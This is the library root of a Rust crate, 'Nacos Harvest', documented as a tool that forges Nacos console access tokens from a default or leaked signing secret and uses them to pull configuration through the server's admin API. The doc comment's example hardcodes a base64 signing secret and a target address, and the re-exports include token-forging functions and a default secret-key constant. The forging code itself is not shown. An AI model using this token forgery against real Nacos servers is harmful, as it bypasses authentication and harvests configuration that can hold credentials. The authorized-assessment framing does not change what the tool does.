//! Nacos Harvest
//!
//! Forges console access tokens for a Nacos server from a known or guessed
//! signing secret and uses them to pull configuration through the
//! administrative API, for authorized assessments of servers still running
//! with a default or leaked `token.secret.key`.
//!
//! This crate provides:
//! - Deterministic HS256 token forging compatible with the server's verifier
//! - A query-parameter authenticated client for the namespace, config
//!   listing and config body endpoints
//! - A budgeted harvest state machine that treats a rejected token as an
//!   expected outcome
//! - A streamed, line-oriented report written to `<dir>/<YYYYMMDDHHMMSS>.txt`
//!
//! # Example
//!
//! ```no_run
//! use nacos_harvest::{harvest, HarvestConfig, HarvestOutcome, SigningCredential};
//!
//! # async fn example() -> Result<(), Box<dyn std::error::Error>> {
//! let credential = SigningCredential::from_base64_secret(
//!     "YXNkbGthaHNkYWxraHNkYXNmYXNkbGtxd2xlcW8yZWlwMTJvaTMxMjN3ZXFzZGFzY2doamts",
//!     "nacos",
//!     18_000,
//! )?;
//! let config = HarvestConfig::new("http://10.0.0.5:8848")?
//!     .with_credential(credential)
//!     .with_max_config_count(10);
//!
//! let summary = harvest(&config).await?;
//! match summary.outcome {
//!     HarvestOutcome::Completed => println!("{} configs retrieved", summary.recorded),
//!     HarvestOutcome::AuthFailed(stage) => println!("token rejected at {:?}", stage),
//! }
//! # Ok(())
//! # }
//! ```

pub mod config;
pub mod harvest;
pub mod nacos_api;
pub mod report;

// Re-export commonly used types and functions
pub use config::{HarvestConfig, DEFAULT_MAX_CONFIG_COUNT, DEFAULT_REQUEST_TIMEOUT_SECS};
pub use harvest::{
    budget::HarvestBudget, harvest, harvest_with, AuthStage, HarvestOutcome, HarvestSummary,
    Harvester, TokenObserver,
};
pub use nacos_api::{
    client::{ApiFuture, ConfigApi, NacosClient},
    resources::{ConfigEntry, Namespace},
    token::{
        decode_token, forge, forge_at, ForgedClaims, SigningCredential, Token,
        DEFAULT_EXPIRY_SECONDS, DEFAULT_PRINCIPAL, DEFAULT_SECRET_KEY,
    },
    types::{ApiError, ApiOutcome, HarvestError},
};
pub use report::{ReportWriter, AUTH_FAILURE_LINE};
